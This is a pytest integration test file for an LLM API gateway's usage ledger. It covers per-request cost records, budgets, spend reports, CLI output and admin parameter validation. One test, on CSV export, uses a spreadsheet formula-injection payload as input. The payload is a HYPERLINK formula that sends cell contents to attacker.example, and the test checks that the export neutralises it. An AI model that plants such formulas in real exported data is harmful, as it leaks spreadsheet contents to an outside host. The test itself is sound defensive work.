"""The usage ledger end to end (SQLite): real gateways, the official SDKs, the fake OpenAI and
Anthropic upstreams. Every request leaves one record whose tokens and cost match what the
upstream reported and the price dataset; the reports and `tollway usage` agree with the
records; spend and budgets survive a restart; nothing of a prompt reaches the database."""
from __future__ import annotations

import csv
import io
import json
import sqlite3
import subprocess
import sys
import time
import urllib.request
from collections.abc import Iterator
from pathlib import Path

import anthropic
import openai
import pytest

from tests.fakes.anthropic_upstream import FakeAnthropic
from tests.fakes.openai_upstream import FakeOpenAI
from tests.harness import ADMIN_KEY, OTHER_KEY, ROOT, TEST_KEY, UPSTREAM_SECRET, GatewayProcess, key_hash
from tollway.core.accounting.pricing import dataset_price
from tollway.ext.usage import Usage

BUDGET_KEY = "sk-tollway-budget-key-000000000000"
MARKER = "PROMPT-MARKER-7d1c0e"  # sent in every prompt; must never be stored


def _config(openai_url: str, anthropic_url: str, db: Path) -> str:
    return f"""
providers:
  - {{name: up, schema: openai, base_url: {openai_url}, api_key: {UPSTREAM_SECRET}}}
  - {{name: claude, schema: anthropic, base_url: {anthropic_url}, api_key: {UPSTREAM_SECRET}}}
models:
  - {{name: gpt-4o-mini, targets: [{{provider: up}}]}}
  - {{name: text-embedding-3-small, targets: [{{provider: up}}]}}
  - {{name: claude-sonnet, targets: [{{provider: claude, model: claude-sonnet-4-5}}]}}
  - {{name: homegrown, targets: [{{provider: up, model: homegrown-llm-7b}}]}}
  - {{name: gpt-dies, targets: [{{provider: up, model: die-mid-stream}}]}}
  - {{name: gpt-ends-early, targets: [{{provider: up, model: ends-early}}]}}
keys:
  - {{name: alice, key_hash: "{key_hash(TEST_KEY)}", team: search}}
  - {{name: bob, key_hash: "{key_hash(OTHER_KEY)}", team: ads}}
  - {{name: capped, key_hash: "{key_hash(BUDGET_KEY)}", team: ads, budget: {{usd: 0.000001, period: day}}}}
teams:
  - {{name: search}}
  - {{name: ads, budget: {{usd: 100, period: month}}}}
admin: {{key_hash: "{key_hash(ADMIN_KEY)}"}}
store: {{backend: sqlite, path: {db}}}
ledger: {{flush_interval: 0.05}}
"""


@pytest.fixture(scope="module")
def upstreams() -> Iterator[tuple[FakeOpenAI, FakeAnthropic]]:
    oai_fake, ant_fake = FakeOpenAI(), FakeAnthropic()
    yield oai_fake, ant_fake
    oai_fake.stop()
    ant_fake.stop()


@pytest.fixture(scope="module")
def db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("ledger") / "ledger.db"


@pytest.fixture(scope="module")
def config_text(upstreams, db) -> str:
    return _config(upstreams[0].url, upstreams[1].url, db)


@pytest.fixture(scope="module")
def gw(config_text) -> Iterator[GatewayProcess]:
    process = GatewayProcess(config_text)
    yield process
    process.stop()


def _client(gw: GatewayProcess, key: str = TEST_KEY) -> openai.OpenAI:
    return openai.OpenAI(base_url=gw.url + "/v1", api_key=key, max_retries=0)


def _admin(gw: GatewayProcess, path: str) -> dict:
    req = urllib.request.Request(gw.url + path, headers={"authorization": f"Bearer {ADMIN_KEY}"})
    with urllib.request.urlopen(req, timeout=10) as r:
        return json.loads(r.read())


def _records(db: Path, request_ids: list[str], timeout: float = 10.0) -> dict[str, dict]:
    """The ledger rows of these requests, once they have all been written."""
    deadline = time.monotonic() + timeout
    while True:
        with sqlite3.connect(db) as conn:
            conn.row_factory = sqlite3.Row
            marks = ",".join("?" * len(request_ids))
            rows = {r["request_id"]: dict(r) for r in conn.execute(
                f"SELECT * FROM usage_records WHERE request_id IN ({marks})", request_ids)}
        if len(rows) == len(request_ids) or time.monotonic() > deadline:
            return rows
        time.sleep(0.05)


def record_of(db: Path, request_id: str, timeout: float = 10.0) -> dict:
    """The ledger row of one request, once it has been written (fails the test if it never is)."""
    row = _records(db, [request_id], timeout).get(request_id)
    assert row is not None, f"no ledger record for {request_id}"
    return row


def _expected_cost(upstream: str, usage: Usage) -> float:
    """The cost by the dataset's own numbers, token class by token class."""
    price = dataset_price(upstream)
    assert price is not None, upstream
    fresh = usage.prompt_tokens - usage.cached_tokens - usage.cache_write_tokens
    return (fresh * price.input + usage.cached_tokens * (price.cached_input if price.cached_input is not None else price.input)
            + usage.cache_write_tokens * (price.cache_write if price.cache_write is not None else price.input)
            + usage.completion_tokens * price.output) / 1e6


def test_every_request_leaves_a_record_matching_its_usage_and_price(gw, db):
    sent: dict[str, tuple[str, Usage, str | None]] = {}
    alice, bob = _client(gw), _client(gw, OTHER_KEY)

    raw = alice.chat.completions.with_raw_response.create(
        model="gpt-4o-mini", messages=[{"role": "user", "content": f"{MARKER} hello there"}],
        extra_headers={"x-tollway-tags": "feature:search,env=test"})
    answer = raw.parse()
    u = answer.usage
    sent[raw.headers["x-request-id"]] = ("gpt-4o-mini", Usage(u.prompt_tokens, u.completion_tokens), raw.headers.get("x-tollway-cost-usd"))

    stream = bob.chat.completions.with_raw_response.create(
        model="gpt-4o-mini", messages=[{"role": "user", "content": f"{MARKER} stream it"}], stream=True,
        stream_options={"include_usage": True})
    chunks = list(stream.parse())
    u = chunks[-1].usage
    sent[stream.headers["x-request-id"]] = ("gpt-4o-mini", Usage(u.prompt_tokens, u.completion_tokens), None)

    emb = alice.embeddings.with_raw_response.create(model="text-embedding-3-small", input=f"{MARKER} embed")
    u = emb.parse().usage
    sent[emb.headers["x-request-id"]] = ("text-embedding-3-small", Usage(u.prompt_tokens, 0), emb.headers.get("x-tollway-cost-usd"))

    ant = anthropic.Anthropic(base_url=gw.url + "/anthropic", api_key=OTHER_KEY, max_retries=0)
    msg = ant.messages.with_raw_response.create(model="claude-sonnet", max_tokens=64,
                                                messages=[{"role": "user", "content": f"{MARKER} hi claude"}])
    m = msg.parse().usage
    prompt = m.input_tokens + (m.cache_read_input_tokens or 0) + (m.cache_creation_input_tokens or 0)
    sent[msg.headers["x-request-id"]] = ("claude-sonnet", Usage(prompt, m.output_tokens, 0, m.cache_read_input_tokens or 0,
                                                                0, m.cache_creation_input_tokens or 0),
                                         msg.headers.get("x-tollway-cost-usd"))

    rows = _records(db, list(sent))
    assert set(rows) == set(sent), "one record per request"
    for rid, (model, usage, header) in sent.items():
        row = rows[rid]
        assert row["model"] == model and row["status"] == 200 and row["error"] is None
        assert row["input_tokens"] == usage.prompt_tokens and row["output_tokens"] == usage.completion_tokens
        assert row["cached_input_tokens"] == usage.cached_tokens and row["cache_write_tokens"] == usage.cache_write_tokens
        expected = _expected_cost(row["upstream_model"], usage)
        assert expected is not None and expected > 0
        assert row["cost_usd"] == pytest.approx(expected, rel=1e-9)
        assert row["attempts"] == 1 and row["latency_ms"] > 0
        if header is not None:
            assert float(header) == pytest.approx(expected, rel=1e-6), "x-tollway-cost-usd says the same"
    by_key = {rows[r]["key"] for r in rows}
    assert by_key == {"alice", "bob"}
    chat = rows[raw.headers["x-request-id"]]
    assert chat["tags"] == "feature:search,env=test" and chat["team"] == "search" and chat["key_id"] == "config:alice"
    assert chat["provider"] == "up" and chat["api"] == "chat" and chat["stream"] == 0
    streamed = rows[stream.headers["x-request-id"]]
    assert streamed["stream"] == 1 and streamed["ttft_ms"] is not None and streamed["team"] == "ads"
    assert rows[msg.headers["x-request-id"]]["api"] == "messages"
    assert "x-tollway-cost-usd" not in stream.headers, "a stream's cost is known only at its end"


def test_failures_and_refusals_are_recorded_with_their_status(gw, db):
    alice = _client(gw)
    ids = []
    with pytest.raises(openai.BadRequestError) as bad:
        alice.chat.completions.create(model="gpt-4o-mini", messages=[{"role": "user", "content": "x"}],
                                      extra_headers={"x-tollway-tags": "no spaces allowed"})
    assert "x-tollway-tags" in bad.value.message
    ids.append(bad.value.response.headers["x-request-id"])
    with pytest.raises(openai.NotFoundError) as missing:
        alice.chat.completions.create(model="no-such-model", messages=[{"role": "user", "content": "x"}])
    ids.append(missing.value.response.headers["x-request-id"])
    rows = _records(db, ids)
    assert rows[ids[0]]["status"] == 400 and rows[ids[0]]["error"] == "invalid_request"
    assert rows[ids[1]]["status"] == 404 and rows[ids[1]]["error"] == "model_not_found"
    assert all(r["cost_usd"] == 0 for r in rows.values())


@pytest.mark.parametrize("model", ["gpt-dies", "gpt-ends-early"])
def test_a_stream_the_upstream_cut_is_recorded_as_cut_and_charged(gw, db, model):
    # The connection drops mid-stream (die-mid-stream), or the stream ends cleanly without its
    # finish chunk or [DONE] (ends-early): the client's SDK raises the closing error event, and
    # the record says why the answer is short, with the tokens that were generated.
    stream = _client(gw).chat.completions.with_raw_response.create(
        model=model, messages=[{"role": "user", "content": "cut me"}], stream=True)
    got = []
    with pytest.raises(openai.APIError, match="closed the stream"):
        got.extend(chunk.choices[0].delta.content for chunk in stream.parse() if chunk.choices)
    assert got  # part of the answer had arrived
    row = record_of(db, stream.headers["x-request-id"])
    assert (row["status"], row["error"], row["stream"]) == (200, "upstream_disconnected", 1)
    assert row["input_tokens"] > 0 and row["output_tokens"] > 0


def test_an_unpriced_model_is_recorded_with_a_null_cost_and_counted(gw, db):
    raw = _client(gw).chat.completions.with_raw_response.create(
        model="homegrown", messages=[{"role": "user", "content": "x"}])
    rid = raw.headers["x-request-id"]
    assert "x-tollway-cost-usd" not in raw.headers
    assert _records(db, [rid])[rid]["cost_usd"] is None
    metrics = urllib.request.urlopen(gw.url + "/metrics").read().decode()
    assert 'tollway_unpriced_requests_total{model="homegrown"} 1.0' in metrics
    assert 'tollway_cost_usd_total{model="gpt-4o-mini",provider="up",team="search"}' in metrics
    assert 'tollway_tokens_total{model="gpt-4o-mini",team="ads",type="output"}' in metrics, "tokens by team"


def test_reports_agree_with_the_records_and_with_tollway_usage(gw, db, config_text, tmp_path):
    _client(gw).chat.completions.create(model="gpt-4o-mini", messages=[{"role": "user", "content": "x"}])
    time.sleep(0.3)  # let the writer take it
    since, until = "2026-01-01T00:00:00Z", time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(time.time() + 60))
    listed = _admin(gw, "/admin/requests?limit=1000")["data"]
    report = _admin(gw, f"/admin/spend?group_by=team,model&since={since}&until={until}")
    assert report["object"] == "spend" and report["group_by"] == ["team", "model"]
    expect: dict[tuple, dict[str, float]] = {}
    for r in listed:
        sums = expect.setdefault((r["team"], r["model"]), {"requests": 0, "input_tokens": 0, "output_tokens": 0,
                                                         "cost_usd": 0.0, "errors": 0})
        sums["requests"] += 1
        sums["errors"] += r["status"] >= 400 or r["error"] is not None  # (a stream cut after its 200 is one)
        sums["input_tokens"] += r["input_tokens"]
        sums["output_tokens"] += r["output_tokens"]
        sums["cost_usd"] += r["cost_usd"] or 0
    got = {(d["team"], d["model"]): d for d in report["data"]}
    assert set(got) == set(expect)
    for group, sums in expect.items():
        for name, value in sums.items():
            assert got[group][name] == pytest.approx(value), (group, name)
    assert report["total"]["requests"] == len(listed)
    assert [r["ts"] for r in listed] == sorted((r["ts"] for r in listed), reverse=True), "newest first"

    config = tmp_path / "config.yaml"
    config.write_text(config_text)
    cli = subprocess.run([sys.executable, "-m", "tollway.gateway.cli", "usage", "--config", str(config), "--by", "team,model",
                          "--since", since, "--until", until, "--format", "json"], capture_output=True, text=True, cwd=ROOT,
                         timeout=60)
    assert cli.returncode == 0, cli.stderr
    assert json.loads(cli.stdout) == report, "tollway usage prints the same object as /admin/spend"
    table = subprocess.run([sys.executable, "-m", "tollway.gateway.cli", "usage", "--config", str(config), "--by", "team",
                            "--since", since], capture_output=True, text=True, cwd=ROOT, timeout=60)
    assert table.returncode == 0 and "TOTAL" in table.stdout and "search" in table.stdout


def test_tollway_usage_csv_never_hands_a_spreadsheet_a_formula(gw, db, config_text, tmp_path):
    """A model name is the client's: `=HYPERLINK(...)` (a 404 still leaves a record) must come out
    of `--format csv` as text, not a formula (OWASP: a leading ' before = + - @ tab CR)."""
    formula = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
    raw = _client(gw).chat.completions.with_raw_response
    plain = raw.create(model="gpt-4o-mini", messages=[{"role": "user", "content": "x"}])
    record_of(db, plain.headers["x-request-id"])
    with pytest.raises(openai.NotFoundError) as missing:
        raw.create(model=formula, messages=[{"role": "user", "content": "x"}])
    assert record_of(db, missing.value.response.headers["x-request-id"])["model"] == formula
    config = tmp_path / "config.yaml"
    config.write_text(config_text)
    cli = subprocess.run([sys.executable, "-m", "tollway.gateway.cli", "usage", "--config", str(config), "--by", "model",
                          "--since", "1h", "--format", "csv"], capture_output=True, text=True, cwd=ROOT, timeout=60)
    assert cli.returncode == 0, cli.stderr
    rows = list(csv.reader(io.StringIO(cli.stdout)))
    models = [row[0] for row in rows[1:]]
    assert "'" + formula in models and formula not in models
    assert "gpt-4o-mini" in models, "a plain name is untouched"
    assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for row in rows for cell in row if not _number(cell))


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_the_access_log_names_time_team_path_client_and_cost(gw):
    raw = _client(gw).chat.completions.with_raw_response.create(model="gpt-4o-mini", messages=[{"role": "user", "content": "x"}])
    rid = raw.headers["x-request-id"]
    deadline = time.monotonic() + 5
    while not (lines := [line for line in gw.log_lines() if line.get("request_id") == rid]) and time.monotonic() < deadline:
        time.sleep(0.05)
    line = lines[0]
    assert line["team"] == "search" and line["path"] == "/v1/chat/completions" and line["client_ip"] == "127.0.0.1"
    assert line["ts"].endswith("Z") and line["cost_usd"] == pytest.approx(float(raw.headers["x-tollway-cost-usd"]))


def test_a_budget_refuses_the_request_after_the_one_that_spent_it_even_after_a_restart(gw, config_text, db):
    capped = _client(gw, BUDGET_KEY)
    first = capped.chat.completions.with_raw_response.create(model="gpt-4o-mini", messages=[{"role": "user", "content": "x"}])
    assert first.http_response.status_code == 200, "nothing spent yet: allowed"
    with pytest.raises(openai.RateLimitError) as refused:
        capped.chat.completions.create(model="gpt-4o-mini", messages=[{"role": "user", "content": "x"}])
    assert refused.value.code == "insufficient_quota" and "resets at" in refused.value.message
    assert refused.value.response.headers["x-tollway-budget-resets-at"].endswith("T00:00:00.000Z")
    with pytest.raises(anthropic.RateLimitError):  # every client API draws on the same budget
        anthropic.Anthropic(base_url=gw.url + "/anthropic", api_key=BUDGET_KEY, max_retries=0).messages.create(
            model="claude-sonnet", max_tokens=8, messages=[{"role": "user", "content": "x"}])
    budgets = {(b["owner"], b.get("key") or b.get("team")): b for b in _admin(gw, "/admin/budgets")["data"]}
    assert budgets[("key", "capped")]["remaining_usd"] == 0 and budgets[("key", "capped")]["period"] == "day"
    assert budgets[("team", "ads")]["spent_usd"] > 0 and budgets[("team", "ads")]["budget_usd"] == 100
    _records(db, [first.headers["x-request-id"]])

    gw.stop()  # the spend is rebuilt from the ledger by the next gateway
    again = GatewayProcess(config_text)
    try:
        with pytest.raises(openai.RateLimitError):
            _client(again, BUDGET_KEY).chat.completions.create(model="gpt-4o-mini", messages=[{"role": "user", "content": "x"}])
        spend = _admin(again, "/admin/spend?group_by=key&since=1d")
        assert {d["key"] for d in spend["data"]} >= {"alice", "bob", "capped"}, "spend survives a restart"
    finally:
        again.stop()


def test_no_prompt_text_reaches_any_column(db):
    with sqlite3.connect(db) as conn:
        tables = [t for (t,) in conn.execute("SELECT name FROM sqlite_master WHERE type = 'table'")]
        assert "usage_records" in tables
        for table in tables:
            for row in conn.execute(f"SELECT * FROM {table}"):
                assert not any(MARKER in str(v) for v in row), table
                assert not any(UPSTREAM_SECRET in str(v) or TEST_KEY in str(v) for v in row), table
        assert conn.execute("SELECT count(*) FROM usage_records").fetchone()[0] > 5


def test_records_still_queued_at_shutdown_are_written_before_the_gateway_exits(upstreams, tmp_path):
    db = tmp_path / "shutdown.db"
    text = _config(upstreams[0].url, upstreams[1].url, db).replace("flush_interval: 0.05", "flush_interval: 30")
    gw = GatewayProcess(text)
    ids = []
    try:
        for _ in range(3):
            raw = _client(gw).chat.completions.with_raw_response.create(
                model="gpt-4o-mini", messages=[{"role": "user", "content": "x"}])
            ids.append(raw.headers["x-request-id"])
        with sqlite3.connect(db) as conn:
            assert conn.execute("SELECT count(*) FROM usage_records").fetchone()[0] == 0, "still queued (30 s batches)"
    finally:
        assert gw.stop() == 0
    assert set(_records(db, ids, timeout=0)) == set(ids), "flushed on SIGTERM"


def test_a_ledger_migrated_by_a_newer_gateway_stops_serve_with_a_clear_message(tmp_path):
    db = tmp_path / "newer.db"
    with sqlite3.connect(db) as conn:
        conn.execute("CREATE TABLE tollway_schema (version INTEGER NOT NULL)")
        conn.execute("INSERT INTO tollway_schema VALUES (999)")
    config = tmp_path / "config.yaml"
    config.write_text((ROOT / "examples" / "demo.yaml").read_text().replace("path: tollway.db", f"path: {db}"))
    result = subprocess.run([sys.executable, "-m", "tollway.gateway.cli", "serve", "--config", str(config), "--port", "9"],
                            capture_output=True, text=True, cwd=ROOT, timeout=60)
    assert result.returncode != 0
    assert "schema version 999, newer than this gateway knows" in result.stderr


@pytest.mark.parametrize("path, param", [
    ("/admin/spend?group_by=colour", "group_by"),
    ("/admin/spend?since=last+week", "since"),
    ("/admin/spend?since=1d&until=2d", "until"),
    ("/admin/requests?limit=0", "limit"),
    ("/admin/requests?limit=many", "limit"),
    ("/admin/requests?status=ok", "status"),
    ("/admin/requests?since=yesterday", "since"),
    ("/admin/requests?since=1d&until=2d", "until"),  # as /admin/spend: not an empty list that looks like no traffic
    ("/admin/requests?since=2026-11-02&until=2026-11-01T23:00:00Z", "until"),
    ("/admin/requests?status=99999999999999999999", "status"),
    ("/admin/requests?status=70000", "status"),
    ("/admin/requests?key=a%00b", "key"),
    ("/admin/requests?status=200&limit=abc", "limit"),  # each value parsed on its own, named on its own
])
def test_bad_report_parameters_are_a_400_naming_them(upstreams, db, path, param, config_text):
    gw = _shared_gateway(config_text)
    with pytest.raises(urllib.error.HTTPError) as bad:
        _admin(gw, path)
    body = json.loads(bad.value.read())
    assert bad.value.code == 400 and body["error"]["param"] == param, body


@pytest.mark.parametrize("path", ["/admin/spend?since={t}", "/admin/requests?since={t}&limit=1",
                                  "/admin/spend?since=90d&until={t}", "/admin/audit?since={t}"])
def test_a_positive_offset_sent_unescaped_in_the_query_is_read_as_one(config_text, path):
    """`?since=2026-11-01T00:00:00+05:30` as typed in a shell or a browser reaches the gateway
    with its `+` decoded as a space (form encoding). No RFC 3339 time has a space before an
    offset, so it is the offset: read as `+05:30`, not refused as "not a time"."""
    gw = _shared_gateway(config_text)
    unescaped = _admin(gw, path.format(t="2026-11-01T00:00:00+05:30"))
    escaped = _admin(gw, path.format(t="2026-11-01T00:00:00%2B05:30"))
    if unescaped["object"] == "spend":
        bound = "until" if "until={t}" in path else "since"
        assert unescaped[bound] == escaped[bound] == "2026-10-31T18:30:00.000Z"
    else:
        assert unescaped["data"] == escaped["data"]


def test_reports_need_the_admin_credential(config_text):
    gw = _shared_gateway(config_text)
    for path in ("/admin/spend", "/admin/requests", "/admin/budgets"):
        req = urllib.request.Request(gw.url + path, headers={"authorization": f"Bearer {TEST_KEY}"})
        with pytest.raises(urllib.error.HTTPError) as refused:
            urllib.request.urlopen(req, timeout=5)
        assert refused.value.code == 401, path


_SHARED: list[GatewayProcess] = []


def _shared_gateway(config_text: str) -> GatewayProcess:
    """One gateway for the parameter tests (the module's `gw` was stopped by the restart test)."""
    if not _SHARED or _SHARED[0].proc.poll() is not None:
        _SHARED[:] = [GatewayProcess(config_text)]
    return _SHARED[0]


@pytest.fixture(scope="module", autouse=True)
def _stop_shared() -> Iterator[None]:
    yield
    for gw in _SHARED:
        gw.stop()
